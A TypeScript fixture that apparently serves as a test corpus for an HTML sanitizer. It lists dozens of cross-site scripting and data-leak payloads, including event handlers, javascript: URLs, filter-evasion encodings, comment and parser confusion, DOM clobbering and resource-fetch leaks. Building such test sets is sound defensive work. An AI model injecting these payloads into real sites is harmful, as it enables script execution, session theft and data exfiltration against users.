import type { Payload } from './payload.ts';

/** The plain ways to run a script, and the ways to write them so that a filter over strings does not see them. */
export const SCRIPT: Payload[] = [
  { name: 'script: element', body: '<p>a</p><script>{{run}}</script>', does: 'run' },
  { name: 'script: remote', body: '<script src="{{leak}}"></script>', does: 'leak' },
  { name: 'script: import', body: '<script type="module">import "{{leak}}"</script>', does: 'leak' },
  {
    name: 'script: split by NUL and slashes',
    body: '<scr\0ipt>{{run}}</scr\0ipt><script/x/y>{{run}}</script/z>',
    does: 'run',
  },
  { name: 'script: nested once removed', body: '<scr<script>ipt>{{run}}</scr</script>ipt>' },
  { name: 'script: unclosed', body: '<script>{{run}}//' },
  {
    name: 'script: in noscript',
    body: '<noscript><p title="</noscript><img src=x onerror={{run}}>"></noscript>',
    does: 'run',
  },
  { name: 'handler: onerror', body: '<img src=x onerror={{run}}>', does: 'run' },
  { name: 'handler: onload of body', body: '<body onload={{run}}><p>x', does: 'run' },
  { name: 'handler: second body tag', body: '<p>x<body onload={{run}} onpageshow={{run}}>', does: 'run' },
  { name: 'handler: html tag', does: 'run', body: '<html onmouseover={{run}}><p>x' },
  { name: 'handler: no space between attributes', body: '<img/src="x"/onerror={{run}}>', does: 'run' },
  {
    name: 'handler: quotes in quotes',
    body: `<img title="a' onerror={{run}} b='" src=x><img title='"' src=x onerror={{run}} alt='"'>`,
    does: 'run',
  },
  { name: 'handler: upper case and line end', body: '<IMG SRC=x\nONERROR\n=\n{{run}}>', does: 'run' },
  { name: 'handler: form feed', body: '<img src=x\fonerror={{run}}>', does: 'run' },
  {
    name: 'handler: autofocus',
    body: '<p tabindex=1 autofocus onfocus={{run}}>x</p><input autofocus onfocus={{run}}>',
    does: 'run',
  },
  {
    name: 'handler: toggle',
    body: '<details open ontoggle={{run}}><summary>x</summary></details>',
    does: 'run',
  },
  { name: 'handler: video source', body: '<video><source onerror={{run}} src=x></video>', does: 'run' },
  {
    name: 'handler: animation end',
    body: '<style>@keyframes k{to{color:red}}</style><p style="animation:k .01s" onanimationend={{run}}>x',
    does: 'run',
  },
  {
    name: 'handler: transition',
    body: '<p id=t style="transition:outline 1s" ontransitionend={{run}} tabindex=1>x',
  },
  {
    name: 'handler: content-visibility',
    body: '<p oncontentvisibilityautostatechange={{run}} style="display:block;content-visibility:auto">x',
    does: 'run',
  },
  {
    name: 'handler: marquee',
    body: '<marquee loop=1 width=0 onfinish={{run}} onstart={{run}}>x</marquee>',
  },
  {
    name: 'handler: unknown element',
    does: 'run',
    body: '<x-y onclick={{run}} style="position:fixed;inset:0" onpointerrawupdate={{run}}>x</x-y>',
  },
  {
    name: 'handler: popover',
    does: 'run',
    body: '<button popovertarget=x>x</button><div popover id=x onbeforetoggle={{run}}>x</div>',
  },
  { name: 'link: javascript', does: 'run', body: '<a href="javascript:{{run}}">x</a>' },
  {
    name: 'link: javascript in disguise',
    does: 'run',
    body: '<a href=" \x01java\tscr\nipt\r:{{run}}">x</a><a href="&#x6A;avascript&colon;{{run}}">x</a>',
  },
  {
    name: 'link: other script schemes',
    body: '<a href="vbscript:{{run}}">x</a><a href="livescript:{{run}}">x</a><a href="view-source:javascript:{{run}}">x</a>',
  },
  {
    name: 'link: data document',
    body: '<a href="data:text/html,<script>{{run}}</script>">x</a><area href="data:text/html;base64,PHNjcmlwdD4=">',
  },
  {
    name: 'link: in an image map',
    does: 'run',
    body: '<img usemap=#m src=x><map name=m><area shape=default href="javascript:{{run}}"></map>',
  },
  { name: 'frame: srcdoc', body: `<iframe srcdoc="<script>parent.{{run}}</script>"></iframe>`, does: 'run' },
  {
    name: 'frame: javascript address',
    body: '<iframe src="javascript:parent.{{run}}"></iframe>',
    does: 'run',
  },
  { name: 'frame: remote', body: '<iframe src="{{leak}}"></iframe>', does: 'leak' },
  {
    name: 'frame: frameset',
    body: '<frameset><frame src="javascript:parent.{{run}}"></frameset>',
    does: 'run',
  },
  { name: 'embed: object data', body: '<object data="{{leak}}" type="text/html"></object>', does: 'leak' },
  { name: 'embed: embed', body: '<embed src="{{leak}}" type="image/svg+xml">', does: 'leak' },
  { name: 'embed: applet', body: '<applet code="{{leak}}" codebase="{{leak}}"></applet>' },
  {
    name: 'form: button with its own target',
    body: '<form id=f action="{{leak}}"><button formaction="javascript:{{run}}">x</button></form><input form=f type=image src="{{leak}}">',
    does: 'leak',
  },
  {
    name: 'form: isindex',
    does: 'run',
    body: '<isindex action="javascript:{{run}}" type=image><keygen autofocus onfocus={{run}}>',
  },
  { name: 'meta: refresh to script', body: '<meta http-equiv=refresh content="0;url=javascript:{{run}}">' },
  {
    name: 'meta: refresh elsewhere',
    body: '<meta http-equiv="refresh" content="0; url={{leak}}">',
    does: 'leak',
  },
  {
    name: 'meta: own policy and character set',
    body: '<meta http-equiv=content-security-policy content="img-src *; report-uri {{leak}}"><meta charset=utf-7>+ADw-script+AD4-{{run}}+ADw-/script+AD4-',
  },
  {
    name: 'base: every relative address moved',
    body: '<base href="{{leak}}/" target=_top><img src=x.png><a href=y>z</a>',
    does: 'leak',
  },
  {
    name: 'link element: everything it fetches',
    body: '<link rel=stylesheet href="{{leak}}?1"><link rel=prefetch href="{{leak}}?2"><link rel=preload as=image href="{{leak}}?3"><link rel=icon href="{{leak}}?4"><link rel=dns-prefetch href="{{leak}}?5">',
    does: 'leak',
  },
  {
    name: 'template: shadow root',
    body: '<div><template shadowrootmode=open><img src=x onerror={{run}}></template></div>',
    does: 'run',
  },
  {
    name: 'clobber: names of the document',
    body: '<img name=body src=x><form name=documentElement><input name=querySelector></form><img id=cookie name=cookie src=x><a id=defaultView name=parentWindow href=#>x</a>',
  },
  {
    name: 'comment: ends early',
    body: '<!--><img src=x onerror={{run}}>--><!---><img src=x onerror={{run}}>--><!-- --!><img src=x onerror={{run}}>',
    does: 'run',
  },
  {
    name: 'comment: conditional',
    body: '<!--[if gte IE 4]><script>{{run}}</script><![endif]--><![if !mso]><img src=x onerror={{run}}><![endif]>',
    does: 'run',
  },
  {
    name: 'processing instruction',
    body: '<?xml-stylesheet href="{{leak}}"?><?x ?><img src=x onerror={{run}}><% <img src=x onerror={{run}}> %>',
    does: 'run',
  },
  {
    name: 'raw text: every element that has it',
    body: '<title><img src=x onerror={{run}}></title><textarea></textarea><img src=x onerror={{run}}><xmp></xmp><img src=x onerror={{run}}>',
    does: 'run',
  },
  {
    name: 'pictures: every way to name one',
    body: '<img src="{{leak}}?1"><img srcset="{{leak}}?2 1x, {{leak}}?3 2x"><picture><source srcset="{{leak}}?4"><img src="{{leak}}?5"></picture><image src="{{leak}}?6"><input type=image src="{{leak}}?7"><video poster="{{leak}}?8"></video><audio src="{{leak}}?9"></audio><img lowsrc="{{leak}}?10" dynsrc="{{leak}}?11" longdesc="{{leak}}?12">',
    does: 'leak',
  },
  {
    name: 'pictures: address in disguise',
    body: '<img src=" h\nttp:{{leak}}"><img src="//127.0.0.1:1/{{leak}}"><img src="\\\\127.0.0.1\\x"><img src="HTTP:/127.0.0.1:1/">',
  },
  {
    name: 'pictures: svg as data',
    body: `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{{run}}'><image href='{{leak}}'/></svg>"><img src="data:text/html,<script>{{run}}</script>"><img src="data:image/png;base64,PHN2Zz4=">`,
  },
  {
    name: 'link: ping',
    body: '<a href="https://example.org/" ping="{{leak}}" download=x.exe referrerpolicy=unsafe-url target=_top rel=opener>x</a>',
  },
  {
    name: 'blocking: old attributes that fetch',
    body: '<html manifest="{{leak}}"><head profile="{{leak}}"><body background="{{leak}}"><q cite="{{leak}}">a</q><del cite="{{leak}}">b</del><table background="{{leak}}?1"><td background="{{leak}}?2">',
    does: 'leak',
  },
];
